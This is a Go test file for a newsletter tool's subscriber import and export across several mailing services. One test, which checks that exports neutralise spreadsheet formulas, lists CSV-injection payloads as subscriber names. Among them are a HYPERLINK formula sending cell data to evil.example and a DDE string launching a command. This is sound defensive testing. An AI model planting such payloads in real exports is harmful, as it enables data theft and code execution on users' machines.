package subscribers_test

import (
	"encoding/csv"
	"io"
	"maps"
	"strings"
	"testing"
	"time"

	"broadsheet/internal/db"
	"broadsheet/internal/db/dbtest"
	"broadsheet/subscribers"
)

// exports are files as other tools write them, each with the same eight people:
// one who reads, one with tags, one who left, one whom mail must not reach, one
// who never confirmed, as far as the tool has such, and broken rows.
var exports = map[string]struct {
	file, want string // what Import reports
	states     map[string]string
	labels     map[string]int64
}{
	"mailchimp": {
		file: `Email Address,First Name,Last Name,MEMBER_RATING,OPTIN_TIME,OPTIN_IP,CONFIRM_TIME,CONFIRM_IP,LATITUDE,LONGITUDE,GMTOFF,DSTOFF,TIMEZONE,CC,REGION,LAST_CHANGED,LEID,EUID,NOTES,TAGS
ada@example.com,Ada,Lovelace,5,"2021-03-04 05:06:07",203.0.113.7,"2021-03-04 05:10:00",203.0.113.7,,,,,Europe/London,gb,,"2025-01-01 00:00:00",1,a1,"met at
the fair","""World"",""Old, odd list"""
bob@example.com,Bob,,2,"2022-01-01 10:00:00",,,,,,,,Nowhere/City,us,,,2,b2,,"""Weekend readers"""
non@example.com,Non,,2,,,,,,,,,,,,,3,c3,,
not an address,,,2,"2022-01-01 10:00:00",,,,,,,,,,,,4,d4,,
`,
		want: "+2 ~0 =0 -2\n5: the contact never opted in: Mailchimp calls it non-subscribed\n6: ",
		states: map[string]string{
			"ada@example.com": "active | daily=active Europe/London ,1, | weekly=active Europe/Berlin ,1,", "bob@example.com": "active | weekly=active Europe/Berlin *",
		},
		labels: map[string]int64{"Old, odd list": 1},
	},
	"mailchimp, unsubscribed": {
		file: "Email Address,First Name,Last Name,UNSUB_TIME,UNSUB_CAMPAIGN_TITLE,UNSUB_REASON,LEID,EUID\nada@example.com,Ada,Lovelace,\"2025-05-06 07:08:09\",Spring,NORMAL,1,a1\n",
		want: "+1 ~0 =0 -0", states: map[string]string{"ada@example.com": "unsubscribed"},
	},
	"mailchimp, cleaned": {
		file: "Email Address,First Name,Last Name,CLEAN_TIME,CLEAN_CAMPAIGN_TITLE,LEID,EUID\nada@example.com,Ada,Lovelace,\"2025-05-06 07:08:09\",Spring,1,a1\n",
		want: "+1 ~0 =0 -0", states: map[string]string{"ada@example.com": "active+suppressed | daily=suppressed America/New_York * | weekly=suppressed Europe/Berlin *"},
	},
	"substack": {
		file: "email,active_subscription,expiry,plan,email_disabled,created_at,first_payment_at\n" +
			"ada@example.com,true,2026-12-31T00:00:00.000Z,annual,false,2023-01-02T03:04:05.678Z,2023-01-02T03:04:05.678Z\n" +
			"bob@example.com,false,,other,true,2023-01-02T03:04:05.678Z,\n",
		want: "+2 ~0 =0 -0",
		states: map[string]string{
			"ada@example.com": "active | daily=active America/New_York * | weekly=active Europe/Berlin * tier=paid", "bob@example.com": "unsubscribed",
		},
		labels: map[string]int64{"other": 1},
	},
	"ghost": {
		file: "id,email,name,note,subscribed_to_emails,complimentary_plan,stripe_customer_id,created_at,deleted_at,labels,tiers\n" +
			"64f,ada@example.com,Ada Lovelace,\"a note, with \"\"quotes\"\"\",true,false,,2023-01-02T03:04:05.000Z,,\"Sport,VIP\",\n" +
			"650,bob@example.com,,,false,false,,2023-01-02T03:04:05.000Z,,,\n" +
			"651,cat@example.com,,,true,false,,2023-01-02T03:04:05.000Z,2024-01-01T00:00:00.000Z,,\n",
		want: "+3 ~0 =0 -0",
		states: map[string]string{
			"ada@example.com": "active | daily=active America/New_York ,2, | weekly=active Europe/Berlin ,2,", "bob@example.com": "unsubscribed", "cat@example.com": "unsubscribed",
		},
		labels: map[string]int64{"VIP": 1},
	},
	"listmonk": {
		file: "uuid,email,name,attributes,status,created_at,updated_at\n" +
			"1-1,ada@example.com,Ada,\"{\"\"tier\"\": \"\"paid\"\", \"\"city\"\": \"\"Paris\"\", \"\"age\"\": 4}\",enabled,2023-01-02 03:04:05.678+00:00,2023-01-02 03:04:05+00:00\n" +
			"1-2,bob@example.com,Bob,{},blocklisted,2023-01-02T03:04:05Z,\n1-3,cat@example.com,Cat,not json,disabled,2023-01-02T03:04:05Z,\n1-4,dan@example.com,Dan,{},odd,2023-01-02T03:04:05Z,\n",
		want: "+3 ~0 =0 -1\n5: unknown state \"odd\", want one of blocklisted, disabled, enabled",
		states: map[string]string{
			"ada@example.com": "active | daily=active America/New_York * | weekly=active Europe/Berlin * tier=paid",
			"bob@example.com": "active+suppressed | daily=suppressed America/New_York * | weekly=suppressed Europe/Berlin *", "cat@example.com": "unsubscribed",
		},
	},
	"buttondown": {
		file: "id,creation_date,email_address,notes,metadata,tags,type,source,unsubscription_date,last_open_date,last_click_date\n" +
			"1,2023-01-02T03:04:05.678901Z,ada@example.com,,{},\"arts,world\",regular,embed,,2025-02-01T00:00:00Z,2025-03-01T00:00:00Z\n" +
			"2,2023-01-02T03:04:05Z,bob@example.com,,{},,unactivated,embed,,,\n3,2023-01-02T03:04:05Z,cat@example.com,,{},,unsubscribed,embed,2024-01-01T00:00:00Z,,\n" +
			"4,2023-01-02T03:04:05Z,dan@example.com,,{},,undeliverable,embed,,,\n5,some day,eve@example.com,,{},,regular,embed,,,\n",
		want: "+4 ~0 =0 -1\n6: unknown time \"some day\", want such as 2026-11-23 07:00:00",
		states: map[string]string{
			"ada@example.com": "active | daily=active America/New_York ,3,1, | weekly=active Europe/Berlin ,3,1,",
			"bob@example.com": "pending | daily=pending America/New_York * | weekly=pending Europe/Berlin *", "cat@example.com": "unsubscribed",
			"dan@example.com": "active+suppressed | daily=suppressed America/New_York * | weekly=suppressed Europe/Berlin *",
		},
	},
	"beehiiv": {
		file: "Email,Status,Subscription Tier,Created At,utm_source,Tags\nada@example.com,active,premium,2023-01-02 03:04:05,x,\n" +
			"bob@example.com,inactive,free,2023-01-02 03:04:05 UTC,x,\ncat@example.com,validating,free,2023-01-02,x,\n",
		want: "+3 ~0 =0 -0",
		states: map[string]string{
			"ada@example.com": "active | daily=active America/New_York * | weekly=active Europe/Berlin * tier=paid", "bob@example.com": "unsubscribed",
			"cat@example.com": "pending | daily=pending America/New_York * | weekly=pending Europe/Berlin *",
		},
		labels: map[string]int64{"free": 2},
	},
}

var moving = []string{"Weekend readers=digest:weekly", "annual=attribute:tier=paid", "premium=attribute:tier=paid"}

func TestImportFromOtherTools(t *testing.T) {
	for name, tt := range exports {
		t.Run(name, func(t *testing.T) {
			eachDesk(t, func(t *testing.T, k *desk) {
				k.catalog.Attributes = []subscribers.Attribute{{Name: "tier", Values: []string{"free", "paid"}}}
				o := confirmed
				o.Mapping = moving
				dry := o
				dry.DryRun = true
				tool, _, _ := strings.Cut(name, ",")
				for _, o := range []subscribers.ImportOptions{dry, o} {
					got, err := k.imports(tt.file, o)
					k.must(err)
					if !strings.HasPrefix(got, tt.want) {
						t.Errorf("got %s\nwant %s", got, tt.want)
					}
				}
				k.checkStates()
				report, err := k.Import(t.Context(), k.catalog, strings.NewReader(tt.file), o, nil, nil)
				k.must(err)
				if report.Added+report.Updated > 0 || report.Tool != tool || !maps.Equal(report.Labels, tt.labels) {
					t.Errorf("again: got %+v, want nothing added for %s with the labels %v", report, tool, tt.labels)
				}
				for address, want := range tt.states {
					d := k.detail(address)
					if got := strings.TrimSpace(k.picture(address) + " " + strings.Join(d.Attributes.Pairs(), " ")); got != want {
						t.Errorf("%s is %s\nwant %s", address, got, want)
					}
					if last := d.Consents[len(d.Consents)-1]; !strings.Contains(last.Detail, "from="+tool) {
						t.Errorf("%s: the record %+v does not tell the tool", address, last)
					}
				}
				if n := k.count(`SELECT count(*) FROM system_mails`); n != 0 {
					t.Errorf("an import queued %d mails", n)
				}
			})
		})
	}
}

func TestImportKeepsTheDatesOfOtherTools(t *testing.T) {
	eachDesk(t, func(t *testing.T, k *desk) {
		_, err := k.imports(exports["mailchimp"].file, confirmed)
		k.must(err)
		d := k.detail("ada@example.com")
		asked, done := time.Date(2021, 3, 4, 5, 6, 7, 0, time.UTC), time.Date(2021, 3, 4, 5, 10, 0, 0, time.UTC)
		if !d.CreatedAt.Equal(asked) || !d.ConfirmedAt.Equal(done) || d.Name != "Ada Lovelace" {
			t.Errorf("got %+v", d.Subscriber)
		}
		want := "from=mailchimp asked_at=2021-03-04T05:06:07Z confirmed_at=2021-03-04T05:10:00Z"
		if got := d.Consents[0]; !strings.HasSuffix(got.Detail, want) || got.Text != "on paper" || got.Client != "203.0.113.7" {
			t.Errorf("got %+v, want a detail that ends in %s", got, want)
		}
		_, err = k.imports(exports["buttondown"].file, confirmed)
		k.must(err)
		if n := k.count(`SELECT COUNT(*) FROM subscribers WHERE address = 'eve@example.com'`); n != 0 {
			t.Error("a row with an odd time came in")
		}
	})
}

// TestImportDelta: while both tools run, who leaves there leaves here, a choice
// made here stays, and a newer word of the reader here wins.
func TestImportDelta(t *testing.T) {
	eachDesk(t, func(t *testing.T, k *desk) {
		head := "Email Address,First Name,Last Name,UNSUB_TIME,LEID,EUID\n"
		in := "Email Address,First Name,Last Name,OPTIN_TIME,TAGS,LEID,EUID\n"
		_, err := k.imports(in+"ada@example.com,Ada,,2021-01-01 00:00:00,World,1,1\nbob@example.com,Bob,,2021-01-01 00:00:00,,2,2\n", confirmed)
		k.must(err)
		cat := k.activate("cat@example.com")
		k.must(k.Unsubscribe(t.Context(), cat, 0, "form", ""))
		k.activate("dan@example.com")
		delta := confirmed
		delta.Delta = true
		// Bob left after the move, Dan before he signed up here, Cat left here.
		left := head + "bob@example.com,Bob,,2026-01-02 00:00:00,2,2\ndan@example.com,Dan,,2020-01-01 00:00:00,4,4\n"
		k.wantImport(left, delta, "+0 ~1 =1 -0")
		k.wantImport(left, delta, "+0 ~0 =2 -0")
		k.wantImport(in+"ada@example.com,Other,,2021-01-01 00:00:00,Sport,1,1\ncat@example.com,Cat,,2021-01-01 00:00:00,,3,3\nnew@example.com,New,,2021-01-01 00:00:00,,5,5\n",
			delta, "+1 ~0 =2 -0")
		for address, want := range map[string]string{"ada@example.com": "active", "bob@example.com": "unsubscribed", "cat@example.com": "unsubscribed", "dan@example.com": "active", "new@example.com": "active"} {
			if got := k.picture(address); !strings.HasPrefix(got, want) {
				t.Errorf("%s is %s, want %s", address, got, want)
			}
		}
		if d := k.detail("ada@example.com"); d.Name != "Ada" {
			t.Errorf("the delta changed the name to %q", d.Name)
		}
	})
}

func TestImportRefusesWhatItCannotRead(t *testing.T) {
	eachDesk(t, func(t *testing.T, k *desk) {
		for _, tt := range []struct {
			o    subscribers.ImportOptions
			want string
		}{
			{subscribers.ImportOptions{From: "mailchmp"}, `unknown tool "mailchmp", did you mean "mailchimp"`},
			{subscribers.ImportOptions{From: "ghost"}, "the columns are not those of an export of ghost, which has email, subscribed_to_emails"},
			{subscribers.ImportOptions{Mapping: []string{"x"}}, `the mapping "x" is not LABEL=topic:SLUG`},
			{subscribers.ImportOptions{Mapping: []string{"x=topic:wrld"}}, `the mapping of "x": unknown topic "wrld", did you mean "world"`},
			{subscribers.ImportOptions{Mapping: []string{"x=place:y"}}, `unknown target "place:y"`},
			{subscribers.ImportOptions{Digests: []string{"dayly"}}, `unknown digest "dayly", did you mean "daily"`},
		} {
			_, err := k.imports("email\nada@example.com\n", tt.o)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("%+v: got %v, want %s", tt.o, err, tt.want)
			}
		}
		o := confirmed
		o.Topics, o.Digests = []string{"sport"}, []string{"weekly"}
		k.wantImport("email,topics\nada@example.com,\nbob@example.com,world\n", o, "+2 ~0 =0 -0")
		k.wantPicture("ada@example.com", "active | weekly=active Europe/Berlin ,2,")
		k.wantPicture("bob@example.com", "active | weekly=active Europe/Berlin ,1,")
	})
}

// TestExportForOtherTools writes files that the tools read, and reads back what
// is written for those whose exports have the same columns.
func TestExportForOtherTools(t *testing.T) {
	eachDesk(t, func(t *testing.T, k *desk) {
		k.catalog.Attributes = []subscribers.Attribute{{Name: "tier", Values: []string{"free", "paid"}}}
		k.wantImport("email,name,topics,digests,status,tier\nada@example.com,Ada King Lovelace,world;sport,daily,active,paid\nbob@example.com,=Bob,,,unsubscribed,\n", confirmed, "+2 ~0 =0 -0")
		at := k.now().UTC().Format(time.RFC3339)
		for tool, want := range map[string]string{
			"mailchimp":  "Email Address,First Name,Last Name,Tags\nada@example.com,Ada King,Lovelace,\"\"\"world\"\",\"\"sport\"\",\"\"daily\"\",\"\"tier=paid\"\"\"\n",
			"substack":   "email,name,created_at\nada@example.com,Ada King Lovelace," + at + "\n",
			"ghost":      "email,name,subscribed_to_emails,labels,created_at\nbob@example.com,'=Bob,false,," + at + "\nada@example.com,Ada King Lovelace,true,\"world,sport,daily,tier=paid\"," + at + "\n",
			"listmonk":   "email,name,attributes\nada@example.com,Ada King Lovelace,\"{\"\"digests\"\":[\"\"daily\"\"],\"\"tier\"\":\"\"paid\"\",\"\"topics\"\":[\"\"world\"\",\"\"sport\"\"]}\"\n",
			"buttondown": "email_address,tags,creation_date\nada@example.com,\"world,sport,daily,tier=paid\"," + at + "\n",
			"beehiiv":    "email,first_name,last_name,tags,created_at\nada@example.com,Ada King,Lovelace,\"world,sport,daily,tier=paid\"," + at + "\n",
		} {
			var out strings.Builder
			n, err := k.Export(t.Context(), k.catalog, &out, subscribers.ExportOptions{For: tool})
			k.must(err)
			if got := out.String(); got != want || int(n) != strings.Count(want, "\n")-1 {
				t.Errorf("%s, %d rows:\n got %s\nwant %s", tool, n, got, want)
			}
		}
		if _, err := k.Export(t.Context(), k.catalog, io.Discard, subscribers.ExportOptions{For: "ghst"}); err == nil || !strings.Contains(err.Error(), `did you mean "ghost"`) {
			t.Errorf("got %v", err)
		}
	})
}

// TestExportsHoldNoFormulas: whatever readers call themselves, no cell of any
// export is a formula, and reading the file back gives what was there.
func TestExportsHoldNoFormulas(t *testing.T) {
	names := map[string]string{
		"=x@example.com": `=HYPERLINK("https://evil.example/?"&A1,"Ann")`, "+x@example.com": "+1+1", "-x@example.com": "-2+3+cmd|' /C calc'!A0",
		"a@example.com": "@SUM(1)", "b@example.com": "＝1＋1", "c@example.com": "Ann =1+1", "d@example.com": "'=1+1", "e@example.com": "'Ann", "f@example.com": `"=1`,
	}
	for _, tool := range append(subscribers.ForeignTools(), "") {
		t.Run(tool, func(t *testing.T) {
			k := newDesk(t, dbtest.Open(t, db.SQLite))
			for address, name := range names {
				k.must(k.Add(t.Context(), k.catalog, subscribers.Add{Address: address, Name: name, Confirmed: true, Consent: "on paper"}))
			}
			var out strings.Builder
			_, err := k.Export(t.Context(), k.catalog, &out, subscribers.ExportOptions{For: tool})
			k.must(err)
			rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
			k.must(err)
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") || strings.HasPrefix(cell, "＝") {
						t.Errorf("a spreadsheet would run %q", cell)
					}
				}
			}
			if tool != "" {
				return // its import has other columns than its export
			}
			again := newDesk(t, dbtest.Open(t, db.SQLite))
			again.wantImport(out.String(), confirmed, "+9 ~0 =0 -0")
			for address, name := range names {
				if got := again.detail(address).Name; got != name {
					t.Errorf("%s is called %q after reading back, want %q", address, got, name)
				}
			}
		})
	}
}

// TestRampKnowsWhoReads: of readers that another tool had, those whom it saw
// last come first, whatever the order of their sign-ups.
func TestRampKnowsWhoReads(t *testing.T) {
	eachDesk(t, func(t *testing.T, k *desk) {
		s := &slope{desk: k}
		s.Ramp = s.ramp(2, 1.5, 4)
		head := "creation_date,email_address,type,last_open_date,last_click_date\n"
		o := confirmed
		o.Digests = []string{"daily"}
		s.wantImport(head+
			"2026-03-01,idle@example.com,regular,2026-03-02,\n2020-01-01,keen@example.com,regular,2026-11-20,2026-11-21\n"+
			"2026-02-01,once@example.com,regular,,\n2021-01-01,lurks@example.com,regular,2026-11-19,\n", o, "+4 ~0 =0 -0")
		s.on(0)
		var in []string
		s.must(s.db.View(t.Context(), func(tx *db.Tx) error {
			in = nil
			return tx.Select(t.Context(), &in, `SELECT address FROM subscribers WHERE admitted_at > 0 ORDER BY address`)
		}))
		if got := strings.Join(in, " "); got != "keen@example.com lurks@example.com" {
			t.Errorf("%s are in, want those who read last", got)
		}
	})
}
